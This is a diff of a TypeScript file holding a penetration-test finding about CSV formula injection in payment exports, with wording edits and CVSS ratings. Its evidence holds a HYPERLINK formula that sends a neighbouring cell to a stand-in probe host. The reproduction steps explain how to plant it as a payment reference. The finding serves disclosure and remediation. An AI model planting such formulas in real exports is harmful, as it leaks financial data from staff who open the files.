@@ -1,12 +1,12 @@
 import { rate } from '#content/findings/rate.ts';
-import { code, paragraph } from '#content/sample-report/blocks.ts';
+import { code, paragraph } from '#content/blocks.ts';
 import type { ReportFinding } from '#content/sample-report/finding.ts';
 
 export const csvFormulas: ReportFinding = {
   id: 'MP-08',
   title: 'Exported payment lists can carry formulas into a spreadsheet',
   summary:
-    'Text that a payer enters is written to CSV exports unchanged; a spreadsheet may run it as a formula.',
+    'Text that a payer enters is written to CSV exports unchanged, and a spreadsheet might run it as a formula.',
   rating: rate({
     v31: 'CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:N/A:N',
     v40: 'CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:A/VC:N/VI:N/VA:N/SC:L/SI:N/SA:N',
@@ -23,13 +23,13 @@ export const csvFormulas: ReportFinding = {
   owner: 'Back-office team lead',
   description: [
     paragraph(
-      'The reference of a payment is free text. In a CSV export a cell that begins with an equals sign, a plus, a minus or an at sign is taken as a formula by common spreadsheets. The export quotes cells correctly, which does not help: quotes are removed before the cell is read.',
+      'The reference of a payment is free text. In a CSV export a cell that begins with an equals sign, a plus, a minus or an at sign is taken as a formula by common spreadsheets. The export quotes cells correctly, but that doesn’t help: quotes are removed before the cell is read.',
     ),
   ],
   evidence: [
     code(
       'text',
-      'Line of an export with a reference that the payer chose',
+      'A line from an export, with a reference the payer chose',
       `
 03-11,pay_test_31,20.00,"=HYPERLINK(""https://il-probe.example/?v=""&B2,""Invoice 4711"")"
 `,
@@ -37,15 +37,15 @@ export const csvFormulas: ReportFinding = {
   ],
   reproduction: [
     'Pay a test payment link and enter the formula above as the reference.',
-    'Export the payments of the merchant as CSV and open the file in a spreadsheet.',
+    'Export the merchant’s payments as CSV and open the file in a spreadsheet.',
     'The cell shows a link named Invoice 4711. A click sends the content of a neighboring cell to our host.',
   ],
   impact:
     'A reader who clicks the link, or dismisses a warning, sends figures from the sheet to someone else. The files are opened by finance staff, who trust them because they come from their own system.',
-  likelihood: 'Low. It needs a person who opens the file and ignores what the spreadsheet says.',
+  likelihood: 'Low. Someone has to open the file and ignore the spreadsheet’s warning.',
   remediation: [
     paragraph(
-      'Put an apostrophe before cells that begin with one of these characters, or with a tab or carriage return. Apply it to text from people only: negative amounts must stay numbers.',
+      'Put an apostrophe before cells that begin with one of these characters, or with a tab or carriage return. Only do this for text people typed: negative amounts must stay numbers.',
     ),
     code(
       'typescript',
@@ -67,6 +67,6 @@ export function textCell(text: string): string {
   retest: {
     status: 'Open',
     date: '2026-04-21',
-    note: 'Not changed yet. Planned for the release of June 2026 together with a new export format.',
+    note: 'Not changed yet. Planned for the June 2026 release, along with a new export format.',
   },
 };
